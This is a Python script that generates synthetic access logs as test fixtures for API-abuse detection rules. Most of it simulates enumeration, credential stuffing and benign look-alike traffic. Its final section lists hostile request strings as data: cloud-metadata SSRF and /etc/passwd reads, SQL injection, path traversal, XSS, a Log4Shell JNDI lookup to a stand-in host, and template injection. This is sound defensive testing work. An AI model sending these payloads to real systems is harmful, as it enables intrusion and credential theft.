#!/usr/bin/env python3
"""Writes the logs in the rules' tests/ folders. Run it from anywhere; the same logs come out each time.

A log that a rule must find something in has NAME.expected.jsonl beside it (`tripline test rules --update` writes it, a
person reviews it). A log without one looks alike and must leave every shipped rule quiet, not just its neighbour.
All clients have documentation addresses.
"""

import gzip
import io
import json
import random
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

RULES = Path(__file__).resolve().parent
DAY = datetime(2026, 3, 3, tzinfo=timezone.utc)
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
SAFARI = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15"
BROWSERS = [CHROME, FIREFOX, SAFARI]
APP = "ExampleShop/7.12.0 (iPhone; iOS 18.3.1; Scale/3.00)"
CRAWLER = "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.com/about)"


def at(hour, minute=0, second=0.0, day=0):
    """Seconds after the first day's midnight."""
    return ((day * 24 + hour) * 60 + minute) * 60 + second


class Log:
    """Requests in any order; written in the order of their times."""

    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.requests = []

    def add(self, time, client, path, status=200, size=640, method="GET", agent=CHROME, user="-"):
        self.requests.append((time, client, user, method, path, status, size, agent))

    def sweep(self, start, seconds, client, paths, **more):
        """One request for each path, evenly spread with some jitter."""
        step = seconds / len(paths)
        for n, path in enumerate(paths):
            self.add(start + (n + self.rng.random() * 0.9) * step, client, path, **more)

    def write(self, rule, name, form="combined"):
        form = {"combined": combined, "common": common, "json": nginx_json}[form]
        lines = [form(*request) for request in sorted(self.requests, key=lambda r: r[0])]
        text = "".join(line + "\n" for line in lines).encode()
        path = RULES / rule / "tests" / (name + (".log" if len(text) < 20_000 else ".log.gz"))
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text if path.suffix == ".log" else compressed(text))


def lookup(rule, name, *rows):
    folder = RULES / rule / "tests" / "lookups"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.csv").write_text("".join(row + "\n" for row in rows))


def compressed(text):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", filename="", mtime=0) as file:
        file.write(text)
    return out.getvalue()


def moment(time):
    return DAY + timedelta(seconds=time)


def combined(time, client, user, method, path, status, size, agent):
    return f'{common(time, client, user, method, path, status, size, agent)} "-" "{agent}"'


def common(time, client, user, method, path, status, size, _agent):
    stamp = moment(time).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{client} - {user} [{stamp}] "{method} {path} HTTP/1.1" {status} {size}'


def nginx_json(time, client, user, method, path, status, size, agent):
    return json.dumps({
        "time_iso8601": moment(time).isoformat(timespec="seconds"), "remote_addr": client, "remote_user": user.strip("-"),
        "request_method": method, "request_uri": path, "status": status, "body_bytes_sent": size,
        "http_user_agent": agent, "host": "api.example.com",
    })


def visits(log, client, start, seconds, people, looks=4):
    """Ordinary visits from one address: each person signs in, perhaps mistypes, and looks at some pages."""
    rng = log.rng
    for _ in range(people):
        time = start + rng.random() * seconds
        agent = rng.choice(BROWSERS)
        account = rng.randrange(10_000_000)
        while rng.random() < 0.1:
            log.add(time, client, "/v1/login", 401, 0, "POST", agent)
            time += 5 + rng.random() * 10
        log.add(time, client, "/v1/login", 200, 410, "POST", agent)
        for _ in range(looks):
            time += 3 + rng.expovariate(1 / 20)
            product = 100_000 + int(20_000 * rng.random() ** 2)
            pages = [f"/v1/products/{product}", f"/v1/products/{product}/reviews", f"/v1/users/{account}", "/v1/notifications"]
            for page in rng.sample(pages, rng.randint(1, 4)):
                log.add(time, client, page, size=rng.randint(300, 9_000), agent=agent)


def residents(log, hours, people=30, day=0):
    """A few people at home, so that the site is not empty."""
    for n in range(people):
        for hour in hours:
            visits(log, f"203.0.113.{n + 1}", at(hour, day=day), 3_000, 1, looks=3)


# --- api1/object-enumeration ---

def ids_anywhere():
    log = Log(11)
    start = at(10, 1)
    ids = list(range(4_100, 4_800))
    log.sweep(start, 70, "192.0.2.200", [f"/v1/users/{n}" for n in ids])
    log.sweep(start, 400, "192.0.2.201", [f"/v1/users/{n}/addresses" for n in ids], agent=APP)
    shuffled = log.rng.sample(range(100_000, 900_000), 700)
    log.sweep(start, 300, "192.0.2.202", [f"/{n}/profile" for n in shuffled])
    log.sweep(start, 300, "192.0.2.203", [f"/v1/invoices?invoice_id={n}&lang=en" for n in shuffled], agent=FIREFOX)
    tokens = [str(uuid.UUID(int=log.rng.getrandbits(128), version=4)) for _ in range(700)]
    log.sweep(start, 300, "2001:db8:0:7::1", [f"/v1/contacts/{t}" for t in tokens], method="POST", agent=APP)
    residents(log, [10])
    log.write("api1/object-enumeration", "ids-anywhere")


def lookups_with_few_hits():
    log = Log(12)
    for n in range(900):
        hit = log.rng.random() < 0.03
        phone = f"+49151{log.rng.randrange(10**7, 10**8)}"
        log.add(at(10, 1) + n * 0.5, "192.0.2.200", f"/v1/lookup/{phone}", 200 if hit else 404, 210, agent=APP)
    log.write("api1/object-enumeration", "lookups-with-few-hits")


def office_at_nine():
    log = Log(13)
    visits(log, "192.0.2.100", at(8, 50), 1_800, 300)
    residents(log, [8, 9])
    log.write("api1/object-enumeration", "office-of-300")


def declared_crawler():
    log = Log(14)
    for n in range(1_500):  # twenty minutes
        crawl(log, at(6, 1) + n * 0.8)
    log.write("api1/object-enumeration", "declared-crawler")


def crawl(log, time):
    product = 100_000 + log.rng.randrange(20_000)
    missing = log.rng.random() < 0.01
    log.add(time, "192.0.2.66", f"/products/{product}", 404 if missing else 200, 14_000, agent=CRAWLER)


def gallery():
    log = Log(15)
    for page in range(20):  # 40 pictures each, a page every half minute
        for n in range(40):
            picture = 100_000 + (page * 7_919 + n * 31) % 20_000
            log.add(at(20, 1) + page * 30 + n * 0.03, "203.0.113.7", f"/images/products/{picture}.webp", 200, 52_000)
    log.write("api1/object-enumeration", "gallery")


# --- api1/dense-ids ---

def id_every_25_seconds():
    log = Log(21)
    log.sweep(at(9), 7_200, "192.0.2.200", [f"/v1/users/{n}" for n in range(71_200, 71_488)])
    shuffled = list(range(5_000_300, 5_000_588))
    log.rng.shuffle(shuffled)
    log.sweep(at(9), 7_200, "192.0.2.201", [f"/v1/orders/{n}/items" for n in shuffled], agent=APP)
    decoyed = []
    for n in range(280):  # every other request is for something else
        decoyed += [f"/v1/invoices?invoice_id={62_000 + n}", f"/v1/products/{100_000 + log.rng.randrange(20_000)}"]
    log.sweep(at(9), 7_200, "192.0.2.202", decoyed, agent=FIREFOX)
    log.write("api1/dense-ids", "an-id-every-25-seconds")


def bulk():
    log = Log(22)
    log.sweep(at(9, 5), 2_400, "192.0.2.200", [f"/v1/users/{n}" for n in range(8_000, 9_200)])
    log.write("api1/dense-ids", "thirty-a-minute")


def list_views():
    log = Log(23)
    for client in range(12):
        for _ in range(6):  # six lists in the hour, each 50 consecutive items in two seconds
            start, first = at(19, log.rng.randrange(59)), 100_000 + log.rng.randrange(19_900)
            log.add(start, f"203.0.113.{client + 1}", "/v1/categories/lamps/products?page=1&limit=50", 200, 3_900, agent=APP)
            for n in range(50):
                log.add(start + 0.2 + n * 0.035, f"203.0.113.{client + 1}", f"/v1/products/{first + n}", 200, 2_400, agent=APP)
    # Somebody who has the list on the screen and looks into its items for an hour.
    log.sweep(at(19, 1), 2, "203.0.113.30", [f"/v1/products/{104_200 + n}" for n in range(50)], agent=APP)
    log.sweep(at(19, 5), 3_200, "203.0.113.30", [f"/v1/products/{104_200 + n % 50}" for n in range(40)], agent=APP)
    log.write("api1/dense-ids", "list-views")


def small_catalogue():
    log = Log(27)
    products = log.rng.sample(range(2_000), 600)
    log.sweep(at(10), 3_600, "192.0.2.100", [f"/v1/products/{100_000 + n}" for n in products])
    log.sweep(at(10), 3_600, "192.0.2.100", ["/static/app.js", "/v1/banners"] * 50)
    log.write("api1/dense-ids", "office-in-a-small-catalogue")


def photo_sync():
    log = Log(24)
    log.sweep(at(18, 7), 240, "203.0.113.9", [f"/v1/photos/{n}" for n in range(88_000, 88_500)], size=180_000, agent=APP)
    log.sweep(at(18, 7), 240, "203.0.113.9", [f"/v1/photos/{n}/thumbnail" for n in range(88_000, 88_500)], size=9_000, agent=APP)
    log.write("api1/dense-ids", "photo-sync")


def dashboard():
    log = Log(25)
    for minute in range(0, 120):  # a hundred neighbouring devices, asked every five minutes
        for n in range(20):
            device = 3_300 + (minute % 5) * 20 + n
            log.add(at(9, minute) + n * 2, "192.0.2.30", f"/v1/devices/{device}/status", 200, 150, agent=CHROME)
    log.write("api1/dense-ids", "dashboard")


def nightly_partner():
    log = Log(26)
    agent = "ExamplePartnerSync/2.3 (+https://partner.example.com)"
    for night in range(2):
        ids = range(700_000 + night * 3_000, 703_000 + night * 3_000)
        log.sweep(at(2, 0, day=night), 3_300, "192.0.2.20", [f"/v1/orders/{n}" for n in ids], size=1_300, agent=agent)
    log.write("api1/dense-ids", "nightly-partner")


# --- api1/steady-reader ---


def app_users(log):
    """Six people with the app."""
    for n in range(6):
        time = at(6) + log.rng.random() * 600
        while time < at(7):
            client, account = f"198.51.100.{n + 1}", 7_000_000 + n * 13
            log.add(time, client, "/v1/me", agent=APP)
            log.add(time + 0.3, client, f"/v1/users/{account}", agent=APP)
            time += log.rng.uniform(60, 900)


def first_hour_of_the_log():
    log = Log(91)
    app_users(log)
    log.sweep(at(6, 0, 2), 1400, "192.0.2.200", [f"/v1/users/{log.rng.randrange(1, 40_000_000)}" for _ in range(420)])
    log.write("api1/steady-reader", "first-hour-of-the-log")


def sync_of_photos():
    """A new phone; it is done before eight minutes are over."""
    log = Log(92)
    app_users(log)
    log.sweep(at(6, 5), 170, "198.51.100.77", [f"/v1/photos/{1_000_000 + 3 * n}" for n in range(500)], agent=APP)
    log.write("api1/steady-reader", "photo-sync")


def pages_and_objects():
    """An office reads as many."""
    log = Log(93)
    for n in range(380):
        time, agent = at(6) + n * 3.2 + log.rng.random() * 3, BROWSERS[n % 3]
        log.add(time, "192.0.2.100", "/account", agent=agent)
        log.add(time + 0.1, "192.0.2.100", "/static/app.js", agent=agent)
        log.add(time + 0.2, "192.0.2.100", f"/v1/users/{log.rng.randrange(1, 40_000_000)}", agent=agent)
    log.write("api1/steady-reader", "office")


def films():
    """Everybody fetches segments."""
    log = Log(94)
    for viewer in range(5):
        segments = [f"/video/{901 + viewer}/segments/{uuid.UUID(int=log.rng.getrandbits(128), version=4)}" for _ in range(330)]
        log.sweep(at(6, 0, viewer * 40), 2_000, f"198.51.100.{viewer + 1}", segments, size=900_000)
    log.write("api1/steady-reader", "films")


def dashboard_and_lists():
    log = Log(95)
    log.sweep(at(6), 3_500, "192.0.2.11", [f"/v1/devices/{5_000 + n % 80}" for n in range(900)], agent="Dashboard/1.0")
    for minute in [3, 9, 12]:
        log.sweep(at(6, minute), 3, "198.51.100.90", [f"/v1/products/{100_000 + 100 * minute + n}" for n in range(80)], agent=APP)
    log.write("api1/steady-reader", "dashboard-and-lists")


# --- api1/slow-enumeration ---

def uuid_every_40_seconds():
    log = Log(31)
    tokens = [str(uuid.UUID(int=log.rng.getrandbits(128), version=4)) for _ in range(540)]
    log.sweep(at(6), 21_600, "192.0.2.200", [f"/v1/documents/{t}" for t in tokens])
    log.write("api1/slow-enumeration", "a-uuid-every-40-seconds")


def health_probe_and_poller():
    log = Log(32)
    tickets = [str(uuid.UUID(int=log.rng.getrandbits(128), version=4)) for _ in range(400)]
    for n in range(720):  # six hours; the poller needs more than one of them to ask for all tickets once
        log.add(at(6) + n * 30, "192.0.2.10", "/healthz", 200, 15, agent="kube-probe/1.31")
        log.add(at(6) + n * 30 + 2, "192.0.2.11", f"/v1/tickets/{tickets[2 * n % 400]}", 200, 800)
        log.add(at(6) + n * 30 + 17, "192.0.2.11", f"/v1/tickets/{tickets[(2 * n + 1) % 400]}", 200, 800)
    log.write("api1/slow-enumeration", "health-probe-and-poller", "json")


def polite_crawler():
    log = Log(34)
    for n in range(2_160):  # six hours, one page in ten seconds
        crawl(log, at(6) + n * 10)
    log.write("api1/slow-enumeration", "polite-crawler")


def evening_of_reading():
    log = Log(35)
    articles = [str(uuid.UUID(int=log.rng.getrandbits(128), version=4)) for _ in range(420)]
    log.sweep(at(19), 7_000, "203.0.113.12", [f"/v1/articles/{a}" for a in articles], agent=APP)
    log.write("api1/slow-enumeration", "evening-of-reading")


def office_day():
    log = Log(33)
    for hour in range(6, 12):
        visits(log, "192.0.2.100", at(hour), 3_500, 40, looks=5)
    log.write("api1/slow-enumeration", "office-all-morning")


# --- api1/above-baseline ---

def profiles_above_the_norm():
    log = Log(41)
    for day in range(2):
        residents(log, [11], people=40, day=day)
    profiles = log.rng.sample(range(10_000_000), 300)
    log.sweep(at(11, 2, day=1), 3_400, "192.0.2.200", [f"/v1/users/{n}" for n in profiles])
    log.write("api1/above-baseline", "profiles-above-the-norm")


def worth(name, route, each):
    """Forty people who read so many objects of a route each day, and one client that reads sixty."""
    lookup("api1/above-baseline", "routes", "route,sensitivity,deprecated", "/v1/wallets/{id},high,false", "/v1/cards/{id},low,false")
    log = Log(45)
    for day in range(2):
        for person in range(40):
            log.sweep(at(11, 1, day=day), 3_000, f"203.0.113.{person + 1}", [f"/v1/{route}/{person * 100 + n}" for n in range(each)], agent=APP)
    log.sweep(at(11, 2, day=1), 3_400, "192.0.2.200", [f"/v1/{route}/{n}" for n in log.rng.sample(range(10_000_000), 60)])
    log.write("api1/above-baseline", name)


def guesses_by_post():
    log = Log(44)
    for day in range(2):  # sign-up checks; whose, stands in the body
        for person in range(60):
            for n in range(log.rng.randint(1, 4)):
                log.add(at(15, 1, day=day) + person * 50 + n * 7, f"203.0.113.{person + 1}", "/v1/signup/checks", 200, 60, "POST", APP)
    for n in range(400):
        log.add(at(15, 5, day=1) + n * 0.5, "192.0.2.200", "/v1/signup/checks", 200, 60, "POST", APP)
    log.write("api1/above-baseline", "guesses-by-post")


def checkouts(name, client, orders, agents):
    """Forty people who order once or twice at noon, and one client that orders more."""
    log = Log(117)
    cart = lambda: f"/v1/carts/{uuid.UUID(int=log.rng.getrandbits(128), version=4)}"
    for day in range(2):
        for person in range(40):
            for n in range(log.rng.randint(1, 2)):
                log.add(at(12, 1, day=day) + person * 80 + n * 15, f"203.0.113.{person + 1}", f"{cart()}/checkout", 201, 700, "POST", APP)
    for n in range(orders):
        log.add(at(12, 2, day=1) + n * 3_300 / orders, client, f"{cart()}/checkout", 201, 700, "POST", agents[n % len(agents)])
    log.write("api1/above-baseline", name)


def pace_raised_by_half():
    log = Log(45)
    for day, n in enumerate([20, 30, 45]):
        residents(log, [14], people=40, day=day)
        log.sweep(at(14, 1, day=day), 3_500, "192.0.2.200", [f"/v1/users/{day * 1_000_000 + 7 * i}" for i in range(n)])
    log.write("api1/above-baseline", "pace-raised-by-half")


def bulk_is_usual_here():
    log = Log(46)
    for day in range(2):
        residents(log, [18], people=40, day=day)
        for phone in range(5):  # new phones fetch their owners' photos
            first = 50_000_000 + phone * 1_000_000 + day * 100_000
            photos = [f"/v1/photos/{first + n}" for n in range(60 + 90 * phone)]
            log.sweep(at(18, 5 + 9 * phone, day=day), 200, f"203.0.113.{200 + phone}", photos, size=180_000, agent=APP)
    log.write("api1/above-baseline", "bulk-is-usual-here")


def same_hour_as_yesterday():
    log = Log(42)
    for night in range(3):
        tokens = [str(uuid.UUID(int=log.rng.getrandbits(128), version=4)) for _ in range(1_600)]
        log.sweep(at(2, 1, day=night), 3_400, "192.0.2.21", [f"/v1/parcels/{t}" for t in tokens], agent="parcel-export/1.0")
        # (it asks which, ten at a time)
        log.sweep(at(2, 1, day=night), 3_400, "192.0.2.21", ["/v1/parcels/changes"] * 160, agent="parcel-export/1.0")
    log.write("api1/above-baseline", "same-hour-as-yesterday")


def office_on_its_first_day():
    log = Log(43)
    residents(log, [8, 9, 10], people=40)
    visits(log, "192.0.2.100", at(9, 50), 3_600, 200)
    log.write("api1/above-baseline", "office-on-its-first-day")


# --- api1/route-surge ---

def usual_days(log, days=2):
    """Forty people at noon, day after day."""
    for day in range(days):
        residents(log, [12], people=40, day=day)


def hundred_addresses():
    log = Log(81)
    usual_days(log)
    profiles = log.rng.sample(range(10_000_000), 900)
    for n, profile in enumerate(profiles):
        log.add(at(12, 20, 10, day=1) + n * 0.1, f"198.51.100.{n % 100 + 1}", f"/v1/users/{profile}", agent=log.rng.choice(BROWSERS))
    log.write("api1/route-surge", "hundred-addresses")


def rush_of_visitors():
    log = Log(82)
    usual_days(log)
    for n in range(1, 251):  # within five minutes, each like any other visitor
        visits(log, f"198.51.100.{n}", at(12, 20, day=1), 300, 1)
    log.write("api1/route-surge", "rush-of-visitors")


def product_in_the_news():
    log = Log(83)
    usual_days(log)
    for n in range(1_500):
        log.add(at(12, 20, day=1) + n * 0.1, f"198.51.100.{n % 250 + 1}", "/v1/products/104711", 200, 2_400, agent=log.rng.choice(BROWSERS))
    log.write("api1/route-surge", "product-in-the-news")


# --- api1/lone-readers ---

def an_address_for_each_account():
    log = Log(85)
    usual_days(log)
    for n, profile in enumerate(log.rng.sample(range(10_000_000), 50)):  # in the shade of forty people's 120 looks
        log.add(at(12, 1, day=1) + n * 70, f"198.51.100.{n + 1}", f"/v1/users/{profile}", agent=log.rng.choice(BROWSERS))
    log.write("api1/lone-readers", "an-address-for-each-account")


def all_at_once_after_a_failure():
    log = Log(86)
    usual_days(log)
    for n, profile in enumerate(log.rng.sample(range(10_000_000), 60)):
        log.add(at(12, 11, day=1) + n * 2, f"198.51.100.{n + 1}", f"/v1/users/{profile}", 503, 90, agent=APP)
        log.add(at(12, 15, day=1) + n * 2, f"198.51.100.{n + 1}", f"/v1/users/{profile}", agent=APP)
    log.write("api1/lone-readers", "all-at-once-after-a-failure")


def tracked_parcels():
    log = Log(87)
    for day, mails in enumerate([60, 90]):  # a link in each mail, opened when it comes
        residents(log, [12], people=40, day=day)
        for n in range(mails):
            parcel = str(uuid.UUID(int=log.rng.getrandbits(128), version=4))
            log.add(at(12, 1, day=day) + n * 39, f"198.51.100.{n + 1}", f"/v1/parcels/{parcel}", agent=log.rng.choice(BROWSERS))
    log.write("api1/lone-readers", "tracked-parcels")


# --- api1/canaries ---

def counts_past_a_canary():
    lookup("api1/canaries", "canaries", "route,object", "/v1/users/{id},4300", "/v1/users/{id},5300", "/v1/orders/{id},77")
    log = Log(88)
    for n in range(40):  # an id in ten minutes, each from another address: nothing else could see it
        log.add(at(8) + n * 600, f"198.51.100.{n + 1}", f"/v1/users/{4_280 + n}", 404 if n % 3 == 2 else 200, agent=log.rng.choice(BROWSERS))
    residents(log, [10], people=5)
    log.write("api1/canaries", "counts-past-a-canary")


def beside_the_canaries():
    log = Log(89)
    for path in ["/v1/users/4299", "/v1/users/4301", "/v1/orders/4300", "/v1/users/77", "/v1/users/4300/addresses"]:
        log.add(at(9, 5), "203.0.113.9", path)
    log.write("api1/canaries", "beside-the-canaries")


# --- api4/partner-contract ---

def more_than_agreed():
    lookup("api4/partner-contract", "partners", "client,owner,daily_records,routes,networks",
           '192.0.2.60,lamps team,5000,/v1/orders /v1/orders/{id},', '192.0.2.61,search team,,,"192.0.2.0/26"',
           "user:acme,sales,1000,/v1/orders /v1/orders/{id},192.0.2.0/24")
    log = Log(96)
    log.sweep(at(9), 6 * 3_600, "192.0.2.60", [f"/v1/orders?page={n}&limit=100" for n in range(80)], size=41_000, agent="lamps-sync/2.0")
    log.write("api4/partner-contract", "more-than-agreed")


def key_wanders():
    log = Log(97)
    routes = [f"/v1/users/{n}" for n in range(30)] + [f"/v1/orders/{n}" for n in range(30)]
    log.sweep(at(9), 3 * 3_600, "192.0.2.60", routes, agent="lamps-sync/2.0")
    log.write("api4/partner-contract", "reads-what-it-never-did")


def as_agreed():
    log = Log(98)
    log.sweep(at(9), 6 * 3_600, "192.0.2.60", [f"/v1/orders?page={n}&limit=100" for n in range(55)], size=41_000, agent="lamps-sync/2.0")
    log.sweep(at(9), 6 * 3_600, "192.0.2.61", [f"/v1/products/{n}" for n in log.rng.sample(range(10_000), 300)], agent="search/1.1")
    log.sweep(at(9), 3_600, "192.0.2.60", [f"/v1/users/{n}" for n in range(40)], status=403, agent="lamps-sync/2.0")
    log.write("api4/partner-contract", "as-agreed")


# --- api9/waking-route ---

def old_version_found():
    log = Log(94)
    usual_days(log)
    for n, account in enumerate(log.rng.sample(range(10_000_000), 40)):  # by people of whom each asks for one
        log.add(at(12, 5, day=1) + n * 60, f"198.51.100.{n + 1}", f"/v0/customers/{account}", agent=log.rng.choice(BROWSERS))
    log.write("api9/waking-route", "old-version-found")


def in_use_yesterday():
    log = Log(95)
    usual_days(log)
    for day in range(2):  # the first day of all routes is no alert, nor is what was read since
        for n, account in enumerate(log.rng.sample(range(10_000_000), 40)):
            log.add(at(12, 5, day=day) + n * 60, f"198.51.100.{n + 1}", f"/v0/customers/{account}", agent=log.rng.choice(BROWSERS))
    log.sweep(at(12, 10, day=1), 600, "203.0.113.200", [f"/v0/carts/{n}" for n in range(300, 330)], status=404)
    log.write("api9/waking-route", "in-use-yesterday")


# --- api4/many-pages ---

def page_after_page():
    log = Log(91)
    log.sweep(at(10, 1), 600, "192.0.2.200", [f"/v1/users?page={n}&limit=100" for n in range(1, 201)], size=41_000)
    log.write("api4/many-pages", "page-after-page")


def staff_turns_pages():
    log = Log(92)
    for clerk in range(4):
        log.sweep(at(10, 1), 3_000, f"192.0.2.{40 + clerk}", [f"/v1/users?page={n % 15 + 1}&limit=50" for n in range(90)], size=21_000)
    log.sweep(at(10, 1), 3_400, "203.0.113.7", ["/v1/notifications?limit=20"] * 700, size=800, agent=APP)
    log.write("api4/many-pages", "staff-turns-pages")


# --- api2/credential-stuffing ---

def list_of_passwords():
    log = Log(51)
    for n in range(240):
        fits = n in (97, 181)
        log.add(at(3, 10) + n * 4 + log.rng.random(), "192.0.2.200", "/v1/login", 200 if fits else 401, 410 if fits else 0,
                "POST", log.rng.choice(BROWSERS))
    visits(log, "203.0.113.5", at(3), 3_000, 3)
    log.write("api2/credential-stuffing", "list-of-passwords")


def spraying():
    log = Log(52)
    for n in range(24):
        log.add(at(4) + n * 90, "192.0.2.201", "/api/session", 401, 0, "POST", user=f"user{n:02}")
    log.write("api2/credential-stuffing", "one-password-many-users", "common")


def guessed_in_the_end():
    log = Log(53)
    for n in range(80):
        log.add(at(5, 20) + n * 6, "192.0.2.202", "/oauth/token", 401, 80, "POST", "python-requests/2.32")
    log.add(at(5, 29), "192.0.2.202", "/oauth/token", 200, 900, "POST", "python-requests/2.32")
    log.write("api2/credential-stuffing", "guessed-in-the-end")


def stale_password():
    log = Log(54)
    for n in range(1_440):  # two hours, every five seconds, in the middle of an office
        log.add(at(8) + n * 5, "192.0.2.100", "/v1/login", 401, 0, "POST", "ExampleMail/4.2 (Android 13)", user="kim")
    visits(log, "192.0.2.100", at(8, 50), 1_800, 60, looks=1)
    for n in range(120):  # three devices of a family that has changed its password
        log.add(at(8) + n * 60, "203.0.113.14", "/v1/login", 401, 0, "POST", [APP, SAFARI, "ExampleMail/4.2 (iOS 18.3)"][n % 3])
    log.write("api2/credential-stuffing", "stale-password")


def office_signs_in():
    log = Log(55)
    visits(log, "192.0.2.100", at(8, 55), 900, 300, looks=1)
    log.write("api2/credential-stuffing", "office-signs-in-at-nine")


def device_code():
    log = Log(56)
    for n in range(120):  # a television that waits for its owner to confirm, and is told 400 until then
        log.add(at(20) + n * 5, "203.0.113.8", "/oauth/token", 400, 60, "POST", "ExampleTV/3.1")
    log.add(at(20, 10, 3), "203.0.113.8", "/oauth/token", 200, 900, "POST", "ExampleTV/3.1")
    log.write("api2/credential-stuffing", "device-waits-for-its-owner")


# --- api2/many-networks ---

def users_verified(rule):
    """Says beside the logs that the server has verified their users."""
    (RULES / rule / "tests").mkdir(exist_ok=True)
    (RULES / rule / "tests" / "tripline.toml").write_text(
        '[[source]]\npath = "."\nclient = ["user", "client_ip"]\nuser_verified = true\n')


def networks(n):
    return f"{[192, 198, 203][n % 3]}.{[0, 51, 0][n % 3]}.{[2, 100, 113][n % 3]}.{10 + n}" if n < 3 else f"2001:db8:{n}::7"


def key_is_sold():
    users_verified("api2/many-networks")
    log = Log(111)
    for n in range(9):  # nine networks within forty minutes
        for request in range(4):
            log.add(at(10, 2 + 4 * n, request), networks(n), "/v1/orders", agent=APP, user="kim")
    for n in range(40):
        log.add(at(10, n), f"198.51.100.{n + 100}", "/v1/orders", agent=APP, user=f"user{n:02}")
    log.write("api2/many-networks", "key-is-sold")


def people_on_the_move():
    log = Log(112)
    for n in range(5):  # the train, the office, the telephone
        for request in range(6):
            log.add(at(8, 3 + 11 * n, request), networks(n), "/v1/orders", agent=APP, user="kim")
    for n in range(12):  # whoever is refused may write any name
        log.add(at(8, 30, n), networks(n), "/v1/orders", 401, 60, user="lee")
        log.add(at(8, 40, n), networks(n), "/v1/products", 200, 900)
    for hour in range(9, 12):  # machines of one network, and a fleet that grows
        for n in range(60):
            log.add(at(hour, n), f"192.0.2.{n + 1}", "/v1/stock", 200, 120, agent="lamps-sync/2.0", user="lamps")
        for n in range([5, 8, 12][hour - 9]):
            log.add(at(hour, n), networks(n), "/v1/stock", 200, 120, agent="fleet/1.0", user="fleet")
    log.write("api2/many-networks", "people-on-the-move")


# --- api3/answer-size ---

def accounts(log, hour, day, size):
    """Sixty people look at four accounts each."""
    for n in range(240):
        log.add(at(hour, day=day) + n * 14, f"198.51.100.{n % 60 + 1}", f"/v1/accounts/{log.rng.randrange(10_000_000)}", 200, size(log.rng), agent=APP)


def more_fields():
    log = Log(113)
    for day, more in enumerate([1.0, 1.9, 1.9]):  # told once: what is longer on the second day is usual on the third
        accounts(log, 12, day, lambda rng, more=more: int(more * rng.randint(400, 900)))
    log.write("api3/answer-size", "more-fields")


def texts_of_all_lengths():
    log = Log(114)
    for day, more in enumerate([1.0, 1.2, 0.5]):
        accounts(log, 12, day, lambda rng, more=more: int(more * rng.lognormvariate(7, 1.2)))
    for n in range(30):  # too few to say
        for day, size in enumerate([400, 4_000, 40_000]):
            log.add(at(12, n, day=day), f"203.0.113.{n + 1}", f"/v1/reports/{n}", 200, size, agent=APP)
    for n in range(80):  # empty answers, and errors
        for day in range(3):
            log.add(at(12, n % 60, 30, day=day), f"203.0.113.{n + 1}", f"/v1/users/{n}/likes", 204, 0, "POST", APP)
            log.add(at(12, n % 60, 31, day=day), f"203.0.113.{n + 1}", f"/v1/gone/{n}", 404, 100 * 9 ** day, agent=APP)
    log.write("api3/answer-size", "texts-of-all-lengths")


# --- api5/admin-newcomer ---

def administrators(log, days):
    for day in range(days):
        residents(log, [12], people=10, day=day)
        for n in range(4):
            log.add(at(12, 10 * n, day=day), f"192.0.2.{40 + n % 2}", f"/v1/admin/refunds/{9_000 + n}", 200, 800, "POST")


def tries_the_name():
    log = Log(115)
    administrators(log, 2)
    log.add(at(12, 20, day=1), "203.0.113.7", "/v1/admin/refunds/9001", 403, 60, "POST", APP)
    for n in range(3):
        log.add(at(12, 21 + n, day=1), "203.0.113.7", f"/v1/Admin/users/{n}", 200, 800, agent=APP)
    log.write("api5/admin-newcomer", "tries-the-name")


def as_always():
    lookup("api5/admin-newcomer", "routes", "route,sensitivity,deprecated", "/administration-guide,low,false")
    log = Log(116)
    administrators(log, 3)
    for n in range(20):
        log.add(at(12, n, day=1), f"198.51.100.{n + 1}", "/admin/login", 404 if n % 2 else 403, 150)
        log.add(at(12, n, 2, day=1), f"198.51.100.{n + 1}", "/admin/", 200, 3_172)  # a page for everybody, whatever its name
    log.add(at(12, 30, day=1), "203.0.113.9", "/administration-guide", 200, 9_000)
    log.add(at(12, 31, day=1), "203.0.113.9", "/v1/admin/refunds", 204, 0, "OPTIONS")
    log.add(at(12, 32, day=1), "203.0.113.9", "/blog/tags/sysadmin", 200, 9_000)
    log.write("api5/admin-newcomer", "as-always")


# --- api8/attack-strings ---

METADATA = [
    "/v1/previews?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
    "/v1/previews?url=http://169.254.169.254/latest/meta-data/",
    "/v1/previews?url=HTTP%3a%2f%2fMetadata.Google.Internal%2fcomputeMetadata%2fv1%2f",
    "/v1/imports?source=file%3A%2F%2F%2Fetc%2Fpasswd",
]
ATTACKS = [
    "/v1/products/1%27%20OR%20%271%27=%271", "/search?q=1'+UNION+SELECT+null,version()--", "/v1/orders/7?sort=(select*from(select(sleep(20)))a)",
    "/static/..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/.%2e/.%2e/bin/sh", "/download?file=....//....//etc/passwd", "/img?src=%252e%252e%252fwp-config.php",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/v1/reviews?text=<svg/onload=alert(1)>",
    "/v1/login?user=${jndi:ldap://203.0.113.66/a}", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?name={{7*7}}",
]


def some_answered():
    log = Log(98)
    for n, path in enumerate(METADATA):
        log.add(at(3, n), "192.0.2.200", path, 200, 1_400 + n)
    for n, path in enumerate(ATTACKS * 3):  # one in three is answered
        log.add(at(4, n), f"192.0.2.{201 + n % 3}", path, 404 if n % 12 % 3 else 200, 900 + n)
    log.write("api8/attack-strings", "some-answered")


def nothing_answered():
    log = Log(99)
    for n, path in enumerate(METADATA + ATTACKS):
        log.add(at(3, n), "192.0.2.200", path, [400, 404, 403, 502, 301][n % 5], 90, agent="Mozilla/5.0 (compatible; Nuclei - Open-source project)")
